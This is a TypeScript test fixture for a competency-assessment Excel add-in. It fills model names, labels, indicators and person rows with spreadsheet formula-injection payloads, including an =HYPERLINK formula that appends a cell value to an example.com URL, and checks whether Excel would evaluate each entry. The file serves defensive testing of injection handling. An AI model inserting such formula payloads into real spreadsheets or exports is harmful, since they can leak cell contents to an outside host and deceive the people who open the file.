import { findModel } from '../../src/core/model/registry';
import type { CompetencyModel, LevelModel, LocalText, PointsModel } from '../../src/core/model/types';
import { validateModel } from '../../src/core/model/validate';
import type { PersonRow } from '../../src/host/assessment-operations';

/**
 * Models and people whose every text is a formula payload ("=", "+", "-", "@", after spaces or a
 * tab, with commas for the list sources), validated as an import would be. Each payload carries
 * MARKER, so a formula that holds it came from model or people text, not from the add-in.
 */
export const MARKER = 'PAYLOAD';

const SHAPES = [
  (n: string) => `=HYPERLINK("https://example.com/?n="&A4,"${n}")`,
  (n: string) => `+${n}+1`,
  (n: string) => `-${n}`,
  (n: string) => `@${n}`,
  (n: string) => ` =${n}`,
  (n: string) => `\t=${n}*2`,
  (n: string) => `=${n},x`,
];

let counter = 0;
function payload(): string {
  counter += 1;
  return SHAPES[counter % SHAPES.length](`${MARKER}${counter}`);
}
function local(): LocalText {
  return { zh: payload(), en: payload() };
}
function optionalLocal(text: LocalText | undefined): LocalText | undefined {
  return text ? local() : undefined;
}

function validated(model: CompetencyModel): CompetencyModel {
  const result = validateModel(model);
  if (!result.ok) throw new Error(`payload model does not validate: ${JSON.stringify(result.issues.slice(0, 3))}`);
  return result.value;
}

/** ct-am with every name, label, definition, summary and indicator a payload. */
export function payloadLevelModel(): LevelModel {
  const base = findModel('ct-am') as LevelModel;
  const model: LevelModel = {
    ...base,
    id: 'payload-levels',
    name: local(),
    scale: { ...base.scale, name: local(), levels: base.scale.levels.map((l) => ({ ...l, label: local(), description: optionalLocal(l.description) })) },
    classes: base.classes.map((c) => ({ ...c, name: local() })),
    competencies: base.competencies.map((c) => ({
      ...c,
      name: local(),
      definition: optionalLocal(c.definition),
      levels: c.levels.map((d) => ({ ...d, summary: optionalLocal(d.summary), indicators: d.indicators.map(() => local()) })),
    })),
    roles: base.roles?.map((r) => ({ ...r, name: local() })),
  };
  return validated(model) as LevelModel;
}

/** hw-sm (the points model) with level labels such as =HYPERLINK(…), and every other name a payload. */
export function payloadPointsModel(): PointsModel {
  const base = findModel('hw-sm') as PointsModel;
  const model: PointsModel = {
    ...base,
    id: 'payload-points',
    name: local(),
    scale: { ...base.scale, name: local(), levels: base.scale.levels.map((l) => ({ ...l, label: local(), description: optionalLocal(l.description) })) },
    groups: base.groups.map((g) => ({
      ...g,
      name: local(),
      elements: g.elements.map((e) => ({
        ...e,
        name: local(),
        criteria: e.criteria ? Object.fromEntries(Object.keys(e.criteria).map((k) => [k, local()])) : undefined,
      })),
    })),
    knowledge: { exams: base.knowledge.exams.map((x) => ({ ...x, name: local() })) },
    deductions: base.deductions.map((d) => ({ ...d, name: local() })),
  };
  return validated(model) as PointsModel;
}

/** People whose names and roles are payloads. */
export function payloadPeople(count = 4): PersonRow[] {
  return Array.from({ length: count }, () => ({ name: payload(), role: payload() }));
}

/** Whether Excel would run this `Range.formulas` entry as a formula (no text marker, a formula's first character). */
export function excelComputes(entry: unknown): boolean {
  return typeof entry === 'string' && !entry.startsWith("'") && /^\s*[=+\-@]/.test(entry) && !/^\s*-?\d+(\.\d+)?\s*$/.test(entry);
}
